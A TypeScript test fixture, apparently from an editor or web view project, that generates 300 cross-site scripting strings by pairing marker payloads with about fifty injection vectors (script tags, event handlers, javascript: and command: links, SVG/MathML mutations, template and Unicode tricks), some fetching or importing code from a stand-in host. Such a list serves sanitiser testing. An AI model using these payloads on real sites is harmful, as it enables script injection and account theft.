/** Texts that want to be something else than text: 300 of them. One that succeeds leaves a trace named `taken`. */

/** What they want to run. */
const CODE = [
  `globalThis.taken=1`,
  `alert('taken')`,
  `fetch('https://taken.test/')`,
  `document.title='taken'`,
  `import('https://taken.test/x.js')`,
  `new Image().src='//taken.test/'`,
];

const encoded = (code: string): string => code.replaceAll(/./g, sign => `&#${sign.charCodeAt(0)};`);

/** How they want to get there. */
const WAYS: readonly ((code: string) => string)[] = [
  // Elements that run something by being there
  code => `<script>${code}</script>`,
  code => `</td></tr></table><script>${code}</script>`,
  code => `<scr<script>ipt>${code}</scr</script>ipt>`,
  code => `<script type=module>${code}</script>`,
  code => `<img src=x onerror="${code}">`,
  code => `<img/src/onerror=${code}>`,
  code => `"><img src=x onerror="${code}">`,
  code => `' onfocus='${code}' autofocus='`,
  code => `" onmouseover="${code}" x="`,
  code => `<svg onload="${code}">`,
  code => `<svg><script>${encoded(code)}</script></svg>`,
  code => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  code => `<svg><use href="data:image/svg+xml,<svg id=x onload='${code}'/>#x"></svg>`,
  code => `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  code => `<body onload="${code}">`,
  code => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  code => `<iframe src="javascript:${code}"></iframe>`,
  code => `<object data="javascript:${code}"></object>`,
  code => `<embed src="javascript:${code}">`,
  code => `<details open ontoggle="${code}">`,
  code => `<video><source onerror="${code}"></video>`,
  code => `<input autofocus onfocus="${code}">`,
  code => `<marquee onstart="${code}">`,
  code => `<style>@import 'https://taken.test/?${code}';</style>`,
  code => `<link rel=stylesheet href="https://taken.test/?${code}">`,
  code => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  code => `<base href="https://taken.test/?${code}">`,
  code => `<form action="javascript:${code}"><button autofocus>x</button></form>`,
  code => `<template shadowrootmode=open><img src=x onerror="${code}"></template>`,
  code => `<vscode-icon name="x" onclick="${code}"></vscode-icon>`,
  // Addresses
  code => `javascript:${code}`,
  code => `java\tscript:${code}`,
  code => `JaVaScRiPt:${encoded(code)}`,
  code => `data:text/html,<script>${code}</script>`,
  code => `<a href="javascript:${code}">x</a>`,
  // Markdown, and links that are commands
  code => `[x](javascript:${code})`,
  code => `[x](command:workbench.action.closeWindow?${encodeURIComponent(code)})`,
  code => `<a href="command:workbench.action.closeWindow?${encodeURIComponent(code)}">x</a>`,
  code => `![x](https://taken.test/?${encodeURIComponent(code)})`,
  code => `[x]: command:workbench.action.reloadWindow "${code}"`,
  // Templates
  code => `\${${code}}`,
  code => `{{constructor.constructor("${code}")()}}`,
  code => `<%= ${code} %>`,
  code => `<!--?lit$123$-->\${${code}}`,
  code => `{0} $(error) {1} ${code}`,
  // Tricks with signs
  code => `\u202e>tpircs/<${code}\u202c<script>`,
  code => `＜script＞${code}＜/script＞`,
  code => `<img src=x\u0000 onerror\u0000="${code}">`,
  code => `\u001b]8;;javascript:${code}\u0007x\u001b]8;;\u0007`,
  code => `%3Cscript%3E${encodeURIComponent(code)}%3C/script%3E`,
];

export const HOSTILE: readonly string[] = WAYS.flatMap(way => CODE.map(way));
